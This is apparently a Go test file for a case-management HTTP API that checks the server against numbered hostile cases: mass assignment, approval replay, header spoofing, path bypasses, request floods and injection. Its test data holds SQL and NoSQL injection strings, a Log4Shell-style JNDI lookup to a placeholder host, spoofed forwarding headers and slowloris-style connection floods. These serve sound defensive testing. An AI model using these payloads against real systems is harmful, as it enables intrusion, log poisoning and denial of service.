package httpapi_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/safeconduct/safeconduct/internal/httpapi"
	"github.com/safeconduct/safeconduct/internal/passkey/software"
	"github.com/safeconduct/safeconduct/internal/peopletest"
	"github.com/safeconduct/safeconduct/people"
	"github.com/safeconduct/safeconduct/people/roster"
)

// grants are members that somebody would send along to be more than she is.
var grants = []string{"role", "roles", "tenant_id", "agency_id", "status", "state", "approved_by", "agreed", "demo", "verified"}

// TestMassAssignment is hostile case 47: whatever takes a body takes the members that
// the contract names, and refuses it for any other, to whoever may send it.
func TestMassAssignment(t *testing.T) {
	w := newWorld(t, func(c *httpapi.Config) { c.Rate, c.StrangerRate = 1e6, 1e6 })
	everybody := comers(w)
	// Of a body of several kinds the kind comes first.
	kinds := map[string]string{"attest": `"kind":"screening","claims":{},`, "answer": `"kind":"opinion","claims":{},`}
	tried := 0
	for _, door := range w.server.Doors() {
		if !door.JSON {
			continue
		}
		i := slices.IndexFunc(everybody, func(c comer) bool {
			return c.actor.ID != "" && (c.browser != nil || !door.Person) && slices.ContainsFunc(door.Actions, func(do people.Action) bool { return people.May(c.actor, do) == nil })
		})
		by := comer{who: "a stranger"}
		if !door.Public {
			by = everybody[i]
		}
		known := door.Members()
		path := filledIn(door.Path)
		for _, name := range grants {
			if slices.Contains(known, name) {
				continue
			}
			tried++
			got := w.ask(by, door.Method, path, `{`+kinds[door.ID]+`"`+name+`":"supervisor"}`, header("If-Match", `"v1"`))
			var p struct {
				Code     string
				Problems []struct{ Pointer, Code string }
			}
			_ = json.Unmarshal(got.body, &p)
			named := p.Code == "unknown_field" || slices.ContainsFunc(p.Problems, func(one struct{ Pointer, Code string }) bool { return one.Code == "unknown_field" })
			if got.status != http.StatusBadRequest || !named {
				t.Errorf("%s with %q: %d %s", door.ID, name, got.status, got.body)
			}
		}
	}
	if tried < 200 {
		t.Errorf("tried %d bodies: the search is broken", tried)
	}
}

// filledIn is a path of the contract that names nothing that there is.
func filledIn(path string) string {
	path = strings.NewReplacer("{page}", "1", "{change}", "1").Replace(path)
	for strings.Contains(path, "{") {
		before, rest, _ := strings.Cut(path, "{")
		_, after, _ := strings.Cut(rest, "}")
		path = before + randomID() + after
	}
	return path
}

// two are the supervisors of an agency in a network whose founding is over, and its
// first operator.
func two(t *testing.T) (w *world, agency string, first, s1, s2 *browser) {
	t.Helper()
	w = newWorld(t, func(c *httpapi.Config) { c.Rate, c.StrangerRate = 1e6, 1e6 })
	w.admit("Lotus", "NGO", "KHM", "caseworker")
	agency = w.agency["Lotus"]
	in := func(person string) *browser {
		b := &browser{world: w, key: w.house.Keys[person]}
		w.into(b.signIn(), 201, nil)
		return b
	}
	one, other := w.house.Person(agency, people.Supervisor, w.house.First), w.house.Person(agency, people.Supervisor, w.house.First)
	w.house.Do(roster.DoCloseFounding, "", &roster.CloseFounding{}, w.house.First, one)
	return w, agency, in(w.house.First), in(one), in(other)
}

// TestApprovalsCount is hostile cases 48, 49 and 50, as browsers try them: an approval
// is one person's, with her own passkey, over this request as it is, once, and for as
// long as she is there.
func TestApprovalsCount(t *testing.T) {
	w, agency, _, s1, s2 := two(t)
	ask := func() request {
		t.Helper()
		var q asked
		w.into(s1.call("POST", "/api/v1/people", map[string]any{"roles": []string{"caseworker"}, "handle": "desk-9"}), 202, &q)
		return q.Request
	}
	read := func(b *browser, q request) request {
		t.Helper()
		var now request
		w.into(b.call("GET", "/api/v1/requests/"+q.ID, nil), 200, &now)
		return now
	}
	signs := func(key *software.Authenticator, options json.RawMessage) json.RawMessage {
		t.Helper()
		made, err := key.Get(options, peopletest.Origin)
		if err != nil {
			t.Fatal(err)
		}
		return made
	}
	sends := func(b *browser, q request, response json.RawMessage) answer {
		t.Helper()
		return b.call("POST", "/api/v1/requests/"+q.ID+"/approvals", map[string]any{"response": response})
	}
	refused := func(what string, got answer) {
		t.Helper()
		if got.status != http.StatusForbidden || got.code() != "approval_invalid" {
			t.Errorf("%s: %d %s, want 403 approval_invalid", what, got.status, got.body)
		}
	}

	q, other := ask(), ask()
	mine := signs(s1.key, read(s1, q).Options)
	w.into(sends(s1, q, mine), 200, nil)
	refused("her own a second time", sends(s1, q, mine))
	refused("hers, out of another's session", sends(s2, q, mine))
	refused("for another request", sends(s2, q, signs(s2.key, read(s2, other).Options)))
	refused("for another request, replayed there", sends(s1, other, mine))
	refused("of the other person's session, with her own passkey", sends(s2, q, withPasskey(t, s1.key, read(s2, q).Options)))
	if now := read(s2, q); now.State != "waits" || len(now.Agreed) != 1 {
		t.Errorf("the request %s, agreed to by %d", now.State, len(now.Agreed))
	}

	// Nothing changes a request: what is asked for otherwise is another request, and
	// what was agreed to is not agreed to there.
	for _, method := range []string{"PUT", "PATCH", "POST"} {
		if got := s1.call(method, "/api/v1/requests/"+q.ID, map[string]any{"what": map[string]string{}}); got.status != http.StatusMethodNotAllowed {
			t.Errorf("%s of a request: %d %s", method, got.status, got.body)
		}
	}
	again := ask()
	if again.ID == q.ID || len(read(s2, again).Agreed) != 0 {
		t.Error("a request that was asked for anew has somebody's approval")
	}

	// Who has agreed and is removed has not agreed.
	late := ask()
	w.into(sends(s2, late, signs(s2.key, read(s2, late).Options)), 200, nil)
	last := signs(s1.key, read(s1, late).Options)
	state, err := w.people.State(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range state.Of(agency) {
		if w.house.Keys[p.ID] == s2.key {
			w.house.Do(roster.DoRemovePerson, agency, &roster.RemovePerson{ID: p.ID}, w.house.First)
		}
	}
	if got := s2.call("GET", "/api/v1/requests", nil); got.status != http.StatusUnauthorized {
		t.Errorf("who was removed reads requests: %d", got.status)
	}
	if now := read(s1, late); now.State != "ask_again" || len(now.Options) > 0 {
		t.Errorf("the request %s, and a yes that could not be the last is asked for: %t", now.State, len(now.Options) > 0)
	}
	if got := sends(s1, late, last); got.status < 300 {
		var now request
		w.into(got, 200, &now)
		if now.State == "done" {
			t.Error("an approval counts of somebody who was removed")
		}
	}
}

// withPasskey signs with a passkey that was not asked for.
func withPasskey(t *testing.T, key *software.Authenticator, options json.RawMessage) json.RawMessage {
	t.Helper()
	var o map[string]any
	if err := json.Unmarshal(options, &o); err != nil {
		t.Fatal(err)
	}
	delete(o, "allowCredentials")
	open, err := json.Marshal(o)
	if err != nil {
		t.Fatal(err)
	}
	made, err := key.Get(open, peopletest.Origin)
	if err != nil {
		t.Fatal(err)
	}
	return made
}

// TestOneOperator is hostile case 82: one operator alone, with her session and with a
// program of the network, gets nobody into an agency, no second operator, no agency
// and no device: whatever she asks for is refused or waits for a second person.
func TestOneOperator(t *testing.T) {
	w, agency, first, s1, _ := two(t)
	at := w.cases(w.tokens["Lotus caseworker"])
	w.into(s1.call("GET", at, nil), 200, nil)
	waits := func(what string, by *browser, method, path string, body any) asked {
		t.Helper()
		var q asked
		a := by.call(method, path, body)
		if a.status == http.StatusForbidden {
			return q
		}
		w.into(a, 202, &q)
		if got := by.agreed(q.Request, "waits"); got.State != "waits" {
			t.Errorf("%s: %s", what, got.State)
		}
		return q
	}
	for what, body := range map[string]map[string]any{
		"a supervisor of an agency": {"agency": agency, "roles": []string{"supervisor"}, "handle": "hers"},
		"a second operator":         {"roles": []string{"operator"}, "handle": "hers"},
	} {
		q := waits(what, first, "POST", "/api/v1/people", body)
		_, secret, _ := strings.Cut(q.Link, "#join=")
		if got := w.call("", "POST", "/api/v1/joins/options", map[string]string{"secret": secret}); q.Link != "" && got.code() != "invitation_refused" {
			t.Errorf("%s: her link opens: %d %s", what, got.status, got.body)
		}
	}
	q := waits("a program of an agency", first, "POST", "/api/v1/programs", map[string]any{"agency": agency, "role": "supervisor", "label": "hers", "days": 30})
	if got := w.call(q.Token, "GET", at, nil); got.status != http.StatusUnauthorized {
		t.Errorf("the token that she asked for reads a case: %d", got.status)
	}
	for _, of := range []map[string]string{
		{"name": "A false house", "class": "NGO", "country": "THA", "desk": "+66 00 000 001"},
		{"name": "A false embassy", "class": "x_DiplomaticMission", "country": "ETH", "desk": "+251 00 000 001"},
	} {
		q := waits(of["name"], first, "POST", "/api/v1/agencies", of)
		state, err := w.people.State(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if _, there := state.Agencies[q.ID]; there {
			t.Errorf("%s is there", of["name"])
		}
	}
	// What she invited she does not let in, and her program lets nothing in.
	var made struct{ Secret string }
	w.into(first.call("POST", "/api/v1/invitations", map[string]string{"agency": agency, "label": "hers"}), 201, &made)
	e := enrolment{public: newPublicKey(t)}
	w.into(w.call("", "POST", "/api/v1/enrolments", map[string]any{"invitation": made.Secret, "public_key": e.public}), 201, &e)
	symbols := map[string]string{"symbols": w.symbols(e)}
	if got := first.call("POST", "/api/v1/devices/"+e.Device+"/approval", symbols); got.status < 400 {
		var asked asked
		w.into(got, 202, &asked)
		if got := first.agree(asked.Request); got.status < 300 && !strings.Contains(string(got.body), `"waits"`) {
			t.Errorf("her own device is let in: %d %s", got.status, got.body)
		}
	}
	if got := w.call(w.operator, "POST", "/api/v1/devices/"+e.Device+"/approval", symbols); got.status < 300 && got.status != http.StatusAccepted {
		t.Errorf("by her program: %d %s", got.status, got.body)
	}
	if got := w.call(e.Token, "GET", "/api/v1/devices/self/envelope", nil); got.status < 400 {
		t.Errorf("the device has keys: %d", got.status)
	}
	for name, by := range map[string]func(method, path string, body any) answer{
		"her session": func(method, path string, body any) answer { return first.call(method, path, body) },
		"her program": func(method, path string, body any) answer { return w.call(w.operator, method, path, body) },
	} {
		for _, path := range []string{at, at + "/history", at + "/attestations"} {
			if got := by("GET", path, nil); got.status != http.StatusForbidden {
				t.Errorf("%s reads %s: %d", name, path, got.status)
			}
		}
	}
}

// TestSignInTellsNothing is hostile case 55: a passkey that nobody has and one whose
// signature is not right get the same answer, and neither a header that names another
// address nor another spelling buys more tries.
func TestSignInTellsNothing(t *testing.T) {
	start := time.Now()
	w := newWorld(t, func(c *httpapi.Config) {
		c.StrangerRate, c.Now = 20, func() time.Time { return start }
	})
	b := &browser{world: w, key: w.house.Keys[w.house.First]}
	var o options
	w.into(b.call("POST", "/api/v1/sessions/options", nil), 200, &o)
	known, err := b.key.Get(o.Options, "https://evil.example") // signed elsewhere
	if err != nil {
		t.Fatal(err)
	}
	var changed map[string]any
	if err := json.Unmarshal(known, &changed); err != nil {
		t.Fatal(err)
	}
	changed["id"], changed["rawId"] = strings.Repeat("A", 22), strings.Repeat("A", 22)
	unknown, err := json.Marshal(changed)
	if err != nil {
		t.Fatal(err)
	}
	ask := func(response []byte, edit ...func(*http.Request)) answer {
		return b.call("POST", "/api/v1/sessions", map[string]any{"response": json.RawMessage(response)}, edit...)
	}
	one, other := ask(known), ask(unknown)
	for _, a := range []answer{one, other} {
		if a.status != http.StatusUnauthorized || a.code() != "unauthenticated" || len(a.header.Values("Set-Cookie")) > 0 {
			t.Errorf("got %d %s", a.status, a.body)
		}
		for _, name := range aside {
			a.header.Del(name)
		}
	}
	if string(one.body) != string(other.body) || !sameHeaders(one.header, other.header) {
		t.Errorf("a passkey that there is: %s %v, another: %s %v", one.body, one.header, other.body, other.header)
	}
	limited := 0
	for i := range 100 {
		got := ask(unknown, func(r *http.Request) {
			address := fmt.Sprintf("203.0.113.%d", i)
			for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Client-IP", "Forwarded", "CF-Connecting-IP", "True-Client-IP"} {
				r.Header.Set(name, address)
			}
			r.Header.Set("User-Agent", address)
		})
		if got.status == http.StatusTooManyRequests && got.code() == "rate_limited" {
			limited++
		}
	}
	if limited < 60 {
		t.Errorf("%d of 100 tries from 100 addresses were refused", limited)
	}
}

// TestCursors is hostile case 58: a place in a list is an id of one's own, whatever
// else somebody makes of it.
func TestCursors(t *testing.T) {
	w := newWorld(t, func(c *httpapi.Config) { c.Rate = 1e6 })
	mine, other := w.admit("Lotus", "NGO", "KHM", "caseworker"), w.admit("Bridge", "NGO", "THA", "caseworker")
	ids := []string{}
	for range 3 {
		ids = append(ids, strings.TrimPrefix(w.cases(mine), "/api/v1/cases/"))
	}
	theirs := strings.TrimPrefix(w.cases(other), "/api/v1/cases/")
	for _, cursor := range []string{
		"1", "'", "' OR 1=1--", "%", "_", ids[0] + "'", strings.ToUpper(ids[0]), ids[0][1:], ids[0] + "0", "-1", "0x00", "null", "../" + ids[0], `{"$gt":""}`, strings.Repeat("a", 4000),
		"eyJzb3J0IjoiYWdlbmN5In0", "\x00", "٠١٢",
	} {
		for _, member := range []string{"after", "limit", "sort", "filter", "order", "offset", "agency"} {
			got := w.call(mine, "GET", "/api/v1/cases", nil, func(r *http.Request) {
				q := r.URL.Query()
				q.Set(member, cursor)
				r.URL.RawQuery = q.Encode()
			})
			if member == "limit" && cursor == "1" {
				w.into(got, 200, nil)
				continue
			}
			if got.status != http.StatusBadRequest || got.code() != "invalid_request" {
				t.Errorf("%s=%q: %d %s", member, cursor, got.status, got.body)
			}
		}
	}
	for _, after := range []string{theirs, strings.Repeat("0", 32)} {
		got := w.call(mine, "GET", "/api/v1/cases?after="+after, nil)
		w.into(got, 200, nil)
		if strings.Contains(string(got.body), theirs) {
			t.Errorf("after %s: another agency's case is listed", after)
		}
	}
}

// TestNobodyNamesOurAddress is hostile case 59: links have the address that the network
// has, and who a page is from is judged by that, whatever a request says of itself.
func TestNobodyNamesOurAddress(t *testing.T) {
	w := newWorld(t, func(c *httpapi.Config) { c.Rate, c.StrangerRate = 1e6, 1e6 })
	w.admit("Lotus", "NGO", "KHM", "caseworker")
	supervisor := w.person(w.agency["Lotus"], people.Supervisor)
	elsewhere := func(r *http.Request) {
		r.Host = "evil.example"
		for _, name := range []string{"X-Forwarded-Host", "X-Forwarded-Server", "X-Original-Host", "X-Host", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix"} {
			r.Header.Set(name, "evil.example")
		}
		r.Header.Set("X-Forwarded-Proto", "gopher")
		r.Header.Set("Forwarded", "host=evil.example;proto=gopher;for=203.0.113.7")
	}
	for path, body := range map[string]any{
		"/api/v1/people":      map[string]any{"roles": []string{"caseworker"}, "handle": "desk-9"},
		"/api/v1/invitations": map[string]string{"label": "gate-9"},
	} {
		var made struct{ Link string }
		got := supervisor.call("POST", path, body, elsewhere)
		if got.status >= 300 {
			t.Fatalf("%s: %d %s", path, got.status, got.body)
		}
		if _ = json.Unmarshal(got.body, &made); !strings.HasPrefix(made.Link, peopletest.Address+"/") {
			t.Errorf("%s: the link is elsewhere", path)
		}
	}
	var o options
	w.into(w.call("", "POST", "/api/v1/sessions/options", nil, elsewhere), 200, &o)
	if !strings.Contains(string(o.Options), `"localhost"`) || strings.Contains(string(o.Options), "evil") {
		t.Errorf("a passkey is asked for somewhere else: %s", o.Options)
	}
	for _, path := range []string{"/pack", "/trust-list", "/trust-key", "/.well-known/security.txt", "/healthz", "/nowhere"} {
		got := w.call("", "GET", path, nil, elsewhere)
		if strings.Contains(string(got.body), "evil.example") || strings.Contains(fmt.Sprint(got.header), "evil.example") {
			t.Errorf("%s repeats where it was asked for", path)
		}
	}
	// A page of elsewhere that says it is us in every header but the one that a
	// browser writes.
	got := supervisor.call("POST", "/api/v1/people", map[string]any{"roles": []string{"caseworker"}, "handle": "x"}, elsewhere, func(r *http.Request) {
		r.Host = ""
		r.Header.Del("Sec-Fetch-Site")
		r.Header.Set("Origin", "https://evil.example")
	})
	if got.code() != "cross_origin" {
		t.Errorf("another origin: %d %s", got.status, got.body)
	}
}

// TestNothingSentIsLogged is hostile case 60: line ends, colours of a terminal and words
// that a logger might follow, in paths, headers and every text that somebody can send.
func TestNothingSentIsLogged(t *testing.T) {
	w := newWorld(t, func(c *httpapi.Config) { c.Rate, c.StrangerRate = 1e6, 1e6 })
	w.admit("Lotus", "NGO", "KHM", "supervisor")
	at := w.cases(w.tokens["Lotus supervisor"])
	for _, text := range []string{
		"MARK\r\n{\"level\":\"ERROR\"}", "MARK\x1b[31mred\x1b[0m", "${jndi:ldap://MARK.example/a}", "MARK\u202eevil", "MARK\x00", "%0d%0aMARK", "MARK\u2028next",
	} {
		for _, ask := range []struct {
			token, path string
			body        any
		}{
			{w.operator, "/api/v1/agencies", map[string]string{"name": text, "class": "NGO", "country": "THA", "desk": text}},
			{w.operator, "/api/v1/people", map[string]any{"roles": []string{"operator"}, "handle": text}},
			{w.operator, "/api/v1/programs", map[string]any{"role": "operator", "label": text, "days": 1}},
			{w.operator, "/api/v1/invitations", map[string]string{"agency": w.agency["Lotus"], "label": text}},
			{w.tokens["Lotus supervisor"], at + "/cards", map[string]string{"name": text}},
			{w.tokens["Lotus supervisor"], at + "/documents", map[string]string{"kind": text, "issuing_state": text}},
			{"", "/api/v1/papers", map[string]string{"number": text, "code": text}},
			{"", "/api/v1/joins/options", map[string]string{"secret": text}},
		} {
			if got := w.call(ask.token, "POST", ask.path, ask.body); got.status >= 500 {
				t.Errorf("%s with %q: %d %s", ask.path, text, got.status, got.body)
			}
		}
		w.call("", "GET", "/"+strings.NewReplacer("\r", "%0d", "\n", "%0a", "\x1b", "%1b", "\x00", "%00", "\u202e", "%e2%80%ae", "\u2028", "%e2%80%a8", "{", "%7b", "}", "%7d").Replace(text), nil, func(r *http.Request) {
			r.Header.Set("User-Agent", "MARK ${jndi:ldap://MARK.example/a}")
			r.Header.Set("Referer", "https://MARK.example")
		})
	}
	for line := range strings.Lines(w.log.String()) {
		if !json.Valid([]byte(line)) || strings.Contains(line, "MARK") || strings.ContainsAny(line, "\x1b\x00") || strings.Contains(line, "jndi") {
			t.Errorf("the log has %q", line)
		}
	}
}

// TestOneWayToAPath is hostile case 61: no other spelling, method or header leads past
// the door of what people manage.
func TestOneWayToAPath(t *testing.T) {
	w := newWorld(t, func(c *httpapi.Config) { c.Rate, c.StrangerRate = 1e6, 1e6 })
	caseworker := w.admit("Lotus", "NGO", "KHM", "caseworker")
	spell := func(path string) []string {
		return []string{
			"/" + path, path + "/", path + "//", path + "/.", path + "/..", path + "/../" + path[strings.LastIndex(path, "/")+1:], "/." + path, "/x/.." + path, path + ";a=b", path + "%2f", path + "%20", path + "%00",
			strings.ToUpper(path), strings.Replace(path, "a", "%61", 1), strings.Replace(path, "a", "A", 1), strings.Replace(path, "/a", "/%2e/a", 1), strings.Replace(path, "/a", "//a", 1), strings.Replace(path, "/a", `/\a`, 1), path + ".json", path + "%252f",
		}
	}
	for _, path := range []string{"/admin", "/api/v1/people", "/api/v1/agencies", "/api/v1/programs", "/api/v1/publications", "/api/v1/lock"} {
		for _, spelled := range spell(path) {
			if spelled == "/admin/" {
				continue // leads to the page, which is everybody's: TestPageWithSlash
			}
			for _, method := range []string{"GET", "POST"} {
				for who, token := range map[string]string{"nobody": "", "a caseworker": caseworker, "an operator": w.operator} {
					got := w.call(token, method, spelled, nil)
					if got.status != http.StatusNotFound && got.status != http.StatusMethodNotAllowed && got.status != http.StatusBadRequest {
						t.Errorf("%s %s by %s: %d %s", method, spelled, who, got.status, got.body)
					}
				}
			}
		}
	}
	for _, name := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"} {
		got := w.call(caseworker, "GET", "/api/v1/people?", nil, header(name, "POST"))
		if got.status != http.StatusForbidden {
			t.Errorf("%s: %d %s", name, got.status, got.body)
		}
		if got := w.call(caseworker, "POST", "/api/v1/cases", nil, header(name, "DELETE"), header("X-Original-URL", "/api/v1/people"), header("X-Rewrite-URL", "/api/v1/people")); got.status != http.StatusCreated {
			t.Errorf("%s: %d %s", name, got.status, got.body)
		}
	}
}

// TestFloods is hostile case 62: bodies that never end, headers and cookies without
// number, forms: each ends within a limit, and others are answered meanwhile.
func TestFloods(t *testing.T) {
	w := newWorld(t)
	srv := w.server.Listener("")
	srv.ReadHeaderTimeout, srv.ReadTimeout = 6*time.Second, 6*time.Second // what is large has to arrive in time
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	dial := func() net.Conn {
		c, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		_ = c.SetDeadline(time.Now().Add(2 * time.Minute))
		t.Cleanup(func() { _ = c.Close() })
		return c
	}
	status := func(c net.Conn) string {
		line, _ := bufio.NewReader(c).ReadString('\n')
		return strings.TrimSpace(line)
	}
	const post = "POST /api/v1/papers HTTP/1.1\r\nHost: x\r\nIdempotency-Key: 0123456789abcdef\r\nContent-Type: "

	// Twenty that send a byte now and then.
	began := time.Now()
	var slow []net.Conn
	for range 20 {
		c := dial()
		_, _ = fmt.Fprint(c, post+"application/json\r\nContent-Length: 1000\r\n\r\n{")
		slow = append(slow, c)
	}
	for range 5 {
		c, asked := dial(), time.Now()
		_, _ = fmt.Fprint(c, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
		if got := status(c); !strings.Contains(got, "200") || time.Since(asked) > 6*time.Second {
			t.Errorf("somebody else meanwhile: %q after %s", got, time.Since(asked))
		}
	}
	for _, c := range slow {
		if got := status(c); got != "" && !strings.Contains(got, " 4") {
			t.Errorf("a body that does not end: %q", got)
		}
	}
	if took := time.Since(began); took > time.Minute {
		t.Errorf("slow bodies are waited for %s", took)
	}
	for name, c := range map[string]struct{ sent, want string }{
		"cookies":         {"GET /healthz HTTP/1.1\r\nHost: x\r\nCookie: " + strings.Repeat("a=b; ", 1e5) + "\r\n\r\n", "431"},
		"a large header":  {"GET /healthz HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 1<<20) + "\r\n\r\n", "431"},
		"many headers":    {"GET /healthz HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X: a\r\n", 1e5) + "\r\n", "431"},
		"a form":          {post + "application/x-www-form-urlencoded\r\nContent-Length: 4000000\r\n\r\n" + strings.Repeat("k=v&", 1e6), "403"},
		"a large body":    {post + "application/json\r\nContent-Length: 4000000\r\n\r\n" + strings.Repeat("{\"a\"", 1e6), "413"},
		"a long query":    {"GET /api/v1/cases?" + strings.Repeat("a=b&", 1e5) + " HTTP/1.1\r\nHost: x\r\n\r\n", "4"},
		"chunks of bytes": {post + "application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + strings.Repeat("1\r\n{\r\n", 1e5), "413"},
	} {
		conn := dial()
		go func() { _, _ = fmt.Fprint(conn, c.sent) }()
		if got := status(conn); got != "" && !strings.Contains(got, " "+c.want) {
			t.Errorf("%s: %q, want %s", name, got, c.want)
		}
	}
}
